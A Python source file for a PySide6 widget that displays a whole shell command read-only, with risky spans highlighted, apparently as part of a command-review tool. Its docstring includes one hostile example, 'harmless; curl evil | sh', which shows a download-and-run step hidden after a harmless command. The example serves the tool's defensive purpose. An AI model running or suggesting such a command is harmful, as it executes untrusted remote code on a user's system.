"""The read-only, monospace view of one whole command.

Why QPlainTextEdit and not QLabel: a command is shown *whole* — never elided, never cut — and may
be a megabyte long. QPlainTextEdit lays text out lazily, scrolls, never interprets markup, and
lets a person select and copy. Measured here (offscreen, 1 MB single line): word-boundary
wrapping is quadratic on one long token (65 s for 1 MB of ``x``), while ``WrapAnywhere`` is
linear (0.3 s). So ordinary commands wrap at word boundaries and a command with a very long
token (a base64 blob, say) wraps anywhere. Wrapping at all matters: with horizontal scrolling
the tail of ``harmless; curl evil | sh`` could sit off-screen.

The text given to :meth:`CommandView.show_command` must already be revealed (hidden characters
escaped); this widget only renders it. Risky parts (from the risk lens, as spans of the revealed
text) are drawn as extra selections: a coloured background over the plain text, so the
document itself never holds anything but the command's characters.
"""

from __future__ import annotations

import re

from PySide6.QtCore import Qt, QTimer
from PySide6.QtGui import (
    QColor,
    QFontDatabase,
    QMouseEvent,
    QResizeEvent,
    QShowEvent,
    QTextCharFormat,
    QTextCursor,
    QTextOption,
)
from PySide6.QtWidgets import QFrame, QPlainTextEdit, QTextEdit, QWidget

from desktop.risk import RiskLevel

Mark = tuple[int, int, RiskLevel]  # a span of the shown text (Python offsets) and its level

# Background and text colour per level: fixed pairs that read in light and dark themes alike.
MARK_COLOURS = {
    RiskLevel.HIGH: ("#f9c9c4", "#5c0b05"),
    RiskLevel.MEDIUM: ("#fde6a8", "#4a3000"),
}

_LONG_TOKEN = re.compile(r"\S{1000}")
_WORD_WRAP_LIMIT = 100_000  # characters; above this the cheaper anywhere-wrap is used anyway
_MEASURE_LIMIT = 20_000  # characters; longer commands simply get the maximum height
MAX_LINES = 10  # visible lines before the view scrolls


class CommandView(QPlainTextEdit):
    """A command, whole, in a fixed-pitch font; tall enough for short ones, scrolling past that."""

    def __init__(self, parent: QWidget | None = None) -> None:
        super().__init__(parent)
        self.setObjectName("commandView")
        self.setReadOnly(True)
        self.setUndoRedoEnabled(False)
        self.setTextInteractionFlags(Qt.TextInteractionFlag.TextSelectableByMouse)
        # Click to focus (for Ctrl+C) but not Tab: keyboard users stay on the rows.
        self.setFocusPolicy(Qt.FocusPolicy.ClickFocus)
        self.setFrameShape(QFrame.Shape.StyledPanel)
        self.setFont(QFontDatabase.systemFont(QFontDatabase.SystemFont.FixedFont))
        self.setHorizontalScrollBarPolicy(Qt.ScrollBarPolicy.ScrollBarAlwaysOff)
        self.setLineWrapMode(QPlainTextEdit.LineWrapMode.WidgetWidth)
        self.setTabStopDistance(4 * self.fontMetrics().horizontalAdvance(" "))
        self._shown: str | None = None
        self._marks: tuple[Mark, ...] = ()
        self._pending = False  # a long command waits for the first show (see show_command)

    def show_command(self, text: str, marks: tuple[Mark, ...] = ()) -> None:
        """Display ``text`` (already revealed) with ``marks`` highlighted; cheap if unchanged.

        A long command is laid out once, at the view's final width: every width change re-wraps
        the whole text (0.2 to 0.4 s per megabyte), and a hidden view changes width two or three
        times while its window is first laid out. So a long command set while hidden is applied
        just after the first show, when the pending layout passes are done.
        """
        if text == self._shown:
            if marks != self._marks:
                self._marks = marks
                self._apply_marks()
            return
        self._shown = text
        self._marks = marks
        if len(text) <= _MEASURE_LIMIT or self.isVisible():
            self._apply()
        elif not self._pending:
            self._pending = True
            self.setPlaceholderText(f"Loading a {len(text):,}-character command…")

    def showEvent(self, event: QShowEvent) -> None:
        """Apply a pending long command once this show's layout passes have run."""
        super().showEvent(event)
        if self._pending:
            QTimer.singleShot(0, self, self._apply)

    def _apply(self) -> None:
        if self._shown is None or not (self._pending or self.toPlainText() != self._shown):
            return
        text, self._pending = self._shown, False
        long_token = len(text) > _WORD_WRAP_LIMIT or _LONG_TOKEN.search(text) is not None
        self.setWordWrapMode(
            QTextOption.WrapMode.WrapAnywhere
            if long_token
            else QTextOption.WrapMode.WrapAtWordBoundaryOrAnywhere
        )
        # Final height and scroll bar first: either appearing later would narrow or resize the
        # viewport and re-wrap the whole text once more.
        self.setVerticalScrollBarPolicy(
            Qt.ScrollBarPolicy.ScrollBarAlwaysOn
            if len(text) > _MEASURE_LIMIT
            else Qt.ScrollBarPolicy.ScrollBarAsNeeded
        )
        self._fit_height(len(text))
        self.setPlainText(text)
        self._fit_height(len(text))
        self._apply_marks()

    def marks(self) -> tuple[Mark, ...]:
        """The highlighted spans, as given (tests read them back)."""
        return self._marks

    def marked_texts(self) -> list[str]:
        """The text under each drawn highlight, read back from the document."""
        return [selection.cursor.selectedText() for selection in self.extraSelections()]

    def _apply_marks(self) -> None:
        text = self._shown or ""
        if self._pending or self.toPlainText() != text:
            return
        wide = bool(text) and max(text) > "\uffff"  # positions count UTF-16 units then
        selections = []
        for start, end, level in self._marks:
            colours = MARK_COLOURS.get(level)
            if colours is None or not 0 <= start < end <= len(text):
                continue
            if wide:
                start = len(text[:start].encode("utf-16-le")) // 2
                end = len(text[:end].encode("utf-16-le")) // 2
            selection = QTextEdit.ExtraSelection()
            cursor = QTextCursor(self.document())
            cursor.setPosition(start)
            cursor.setPosition(end, QTextCursor.MoveMode.KeepAnchor)
            selection.cursor = cursor
            char_format = QTextCharFormat()
            char_format.setBackground(QColor(colours[0]))
            char_format.setForeground(QColor(colours[1]))
            selection.format = char_format
            selections.append(selection)
        self.setExtraSelections(selections)

    def shown_text(self) -> str:
        """The text as displayed (what tests and screen readers read back)."""
        return self.toPlainText()

    def scroll_page(self, pages: int) -> None:
        """Scroll by whole pages (PageUp/PageDown while the row is selected)."""
        bar = self.verticalScrollBar()
        bar.setValue(bar.value() + pages * bar.pageStep())

    def mousePressEvent(self, event: QMouseEvent) -> None:
        """Start a selection as usual, then let the press go on up: it also selects the row."""
        super().mousePressEvent(event)
        event.ignore()  # the list's viewport sees it (input_router) and selects this card

    def resizeEvent(self, event: QResizeEvent) -> None:
        """Re-fit the height: a new width re-wraps the lines."""
        super().resizeEvent(event)
        if event.oldSize().width() != event.size().width():
            self._fit_height(len(self._shown or ""))

    def _fit_height(self, length: int) -> None:
        line = self.fontMetrics().lineSpacing()
        chrome = 2 * self.frameWidth() + 2 * int(self.document().documentMargin()) + 2
        content: float
        if length > _MEASURE_LIMIT:
            content = MAX_LINES * line
        else:
            layout = self.document().documentLayout()
            block = self.document().firstBlock()
            content = 0.0
            while block.isValid() and content < MAX_LINES * line:
                content += layout.blockBoundingRect(block).height()
                block = block.next()
            content = min(max(content, line), MAX_LINES * line)
        height = int(content) + chrome
        if height != self.height() or self.minimumHeight() != height:
            self.setFixedHeight(height)
